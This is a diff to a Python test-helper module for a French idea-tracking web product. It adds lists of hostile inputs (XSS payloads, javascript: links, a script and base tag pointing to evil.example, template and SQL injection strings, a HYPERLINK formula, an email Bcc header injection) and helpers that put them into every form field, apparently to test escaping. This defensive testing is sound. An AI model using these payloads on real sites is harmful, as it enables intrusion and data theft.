@@ -148,3 +148,150 @@ def undone(call):
         answer = call()
         transaction.set_rollback(True)
     return answer
+
+
+# --- Texts ------------------------------------------------------------------------------------------------
+
+# Markup that would run, or lead to something that runs, where it is taken for markup. `pwn` marks what is ours.
+MARKUP = (
+    "<script>alert(1)</script>",
+    "</title></textarea></style><script src=//evil.example/x.js></script>",
+    "<img src=x id=pwn onerror=alert(1)>",
+    "\"><svg/onload=alert(1) id='pwn'>",
+    "' autofocus onfocus=alert(1) x='",
+    "<a href='javascript:alert(1)' id=pwn>lien</a>",
+    "<a href='java\tscript:alert(1)'>lien</a>",
+    "<a href='\x01javascript:alert(1)'>lien</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>lien</a>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<form action='javascript:alert(1)'><button id=pwn>ok</button></form>",
+    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+    "<base href='//evil.example/'>",
+    "<object data='javascript:alert(1)'></object>",
+    "<embed src='javascript:alert(1)'>",
+    "<details open ontoggle=alert(1)>",
+    "<body onload=alert(1)>",
+)
+# Markdown, entities and templates: literal text everywhere, since nothing here reads them.
+LITERAL = (
+    "[lien](javascript:alert(1))",
+    "[lien](JaVaScRiPt:alert(1))",
+    "[lien](&#106;avascript:alert(1))",
+    "[lien](javascript&colon;alert(1))",
+    "[lien](\x01javascript:alert(1))",
+    "[lien](data:text/html;base64,PHNjcmlwdD4=)",
+    "[lien]: javascript:alert(1)",
+    '![x](x"onerror="alert(1))',
+    "<javascript:alert(1)>",
+    "<https://evil.example>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "`<script>alert(1)</script>`",
+    "{user.password} {0} {idea.authors}",
+    "{{ 7*7 }} {% debug %} ${7*7} #{7*7}",
+    "%s %(title)s %d %",
+    "'; DROP TABLE ideas_idea; --",
+    '=HYPERLINK("http://evil.example")',
+    "titre\r\nBcc: victime@evil.example",
+    "\x1b[31mrouge\x1b[0m\nFAUSSE LIGNE",
+)
+STRANGE = ("😀👩‍👩‍👧", "e\u0301te\u0301", "\u202eemor\u202c", "\u200b\u200d\ufeff", "１２３", "ﷺ" * 9, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A", "ي" * 30)
+UNREADABLE = (
+    "\x00",
+    "a\x00b",
+    "9" * 5000,
+    "1" * 30,
+    "-1",
+    "NaN",
+    "1e999",
+    "0001-01-01",
+    "9999-12-31",
+    "2026-02-30",
+    "١",
+    "",
+)
+
+PARAMETERS = """
+after before show tab to token control next page q policy novelty impact effort ordering e p o _popup again version
+id__exact is_active__exact author__email__startswith filter person day _to_field
+""".split()
+# Every name that a form of the product reads, with a value that would do.
+FIELDS = {
+    "problem_text": "Deux heures d’attente entre deux passages.",
+    "change_text": "Regrouper les passages par rue.",
+    "speaker": "group",
+    "group_names": "L’équipe du matin",
+    "colleagues": "",
+    "keep_unknown": "on",
+    "client_uuid": "0d3f0b52-5f0c-4a1f-9a53-0c5f3a6c3f77",
+    "body": "Merci, c’est noté.",
+    "answer": "no",
+    "reason": "Une raison en une phrase.",
+    "policy": "4",
+    "novelty": "na",
+    "impact": "4",
+    "effort": "1",
+    "not_applicable_because": "Rien de comparable ici.",
+    "title": "Regrouper les passages",
+    "restatement": "Regrouper les passages par rue, le matin.",
+    "readers": "author",
+    "message": "Voici la suite donnée à votre contribution.",
+    "review_on": "+60",
+    "due_on": "+25",
+    "resume_on": "+9",
+    "channel": "hr",
+    "reason_code": "cost",
+    "proposal": "Une tournée par rue.",
+    "status": "moving",
+    "progress": "40",
+    "note": "Première rue faite.",
+    "evidence": "Les tournées sont regroupées.",
+    "claim_level": "probable",
+    "effect": "Une heure gagnée par semaine.",
+    "you_said": "On attend.",
+    "we_did": "On a regroupé.",
+    "credits": "Merci à l’équipe.",
+    "day": "+35",
+    "at": "14:30",
+    "place": "Salle Loire",
+    "version": "0",
+    "block": "report",
+    "minutes": "5",
+    "presenter": "",
+    "visibility": "hidden",
+    "choice": "yes",
+    "key": "6b7d4c0e-96c5-4a3e-9b0a-0f1f6f6f2d12",
+    "to": "up",
+    "pinned": "yes",
+    "then": "stay",
+    "theme": "dark",
+    "language": "fr",
+    "first_name": "Camille",
+    "last_name": "Essai",
+    "job_title": "Intervenante",
+    "owner": "",
+    "into": "",
+    "expected": "",
+    "person": "",
+    "next": "/",
+}
+WORDS = (
+    "problem_text change_text group_names body reason not_applicable_because title restatement message proposal note "
+    "evidence effect you_said we_did credits place first_name last_name job_title"
+).split()
+SHORT = {"first_name", "last_name", "job_title", "place"}
+
+
+def plausible(**changes):
+    """A body that any form of the product takes; "+9" is a day nine days from now."""
+    body = FIELDS | changes
+    return {name: _day(value) if value[:1] == "+" else value for name, value in body.items()}
+
+
+def _day(value):
+    return (clock.today() + timedelta(days=int(value))).isoformat()
+
+
+def in_every_text(*texts):
+    """The plausible body with these texts in turn in every field that takes words."""
+    turns = {name: texts[index % len(texts)] for index, name in enumerate(WORDS)}
+    return plausible(**{name: turns[name][:80] if name in SHORT else f"Voici : {turns[name]}" for name in WORDS})
